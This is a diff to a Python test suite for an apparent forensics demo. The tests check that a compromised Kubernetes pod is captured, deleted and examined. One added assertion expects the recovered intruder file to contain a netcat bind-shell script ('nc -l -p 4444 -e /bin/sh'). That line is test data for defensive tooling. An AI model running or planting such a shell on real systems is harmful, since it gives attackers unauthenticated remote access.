@@ -74,10 +74,11 @@ def interrupted(*arguments: str, env: dict[str, str], moment: str) -> str:
 
 
 def check_story(said: str) -> None:
-    evidence, _, report = said.partition("\n== 3. ")
-    *_, seal, last = evidence.rstrip().splitlines()
-    assert seal == "Seal: valid, made with the given key"
-    assert re.fullmatch(r"Verified: \d+ artifacts, \d+ bytes, manifest sha256:[0-9a-f]{64}", last)
+    evidence, _, rest = said.partition("\n== 3. ")
+    deleted, _, report = rest.partition("\n== 4. ")
+    check_deleted_pod(deleted)
+    sealed = r"Verified: \d+ artifacts, \d+ bytes, manifest sha256:[0-9a-f]{64}\n"
+    assert re.search(r"\nSeal: valid, made with the given key\n" + sealed, evidence)
     assert re.search(r"\n\d+ findings, the first of them:\n  high: ", report)
     page = Path(report.splitlines()[-1].removeprefix("The page stays, as "))
     assert page.read_text().startswith("<!doctype html>")
@@ -86,6 +87,18 @@ def check_story(said: str) -> None:
         assert f"\n{change}\n" in said
     assert "\x1b" not in said
     assert re.search(r"/srv/data' (is|lies)", said), "the volume is told"
+
+
+def check_deleted_pod(said: str) -> None:
+    """The pod waits for its capture by the rule, goes, and the intruder's file is there."""
+    pod = re.search(r"^pod/(shop-b-\w+) condition met$", said, re.M)
+    assert pod, said
+    before, deleted, after = said.partition(f'\npod "{pod[1]}" deleted')
+    assert deleted and "hold: true" in before
+    assert re.search(rf"^{pod[1]}-\S+ +{pod[1]} +default +Complete ", after, re.M)
+    listed, _, file = after.partition("\n$ kubectl get pods ")[2].partition("\n$ forensics cat ")
+    assert pod[1] not in listed
+    assert "\n#!/bin/sh\nnc -l -p 4444 -e /bin/sh\n" in file
 
 
 def check_traces_off_disk(said: str) -> None:
@@ -103,7 +116,7 @@ def check_nothing_stays(folder: Path) -> None:
 
 async def leftovers(docker: DockerEngine, said: str) -> list[str]:
     """Return the demo's own containers that are still there: other tests may use the engine too."""
-    names = {f"/{name}" for name in re.findall(r"\bshop-[0-9a-f]+\b", said)}
+    names = {f"/{name}" for name in re.findall(r"\bshop-(?:b-)?[0-9a-f]{8}\b", said)}
     assert names, "the demo names its container"
     async with docker.client() as client:
         there = await client.containers.list(all=1)
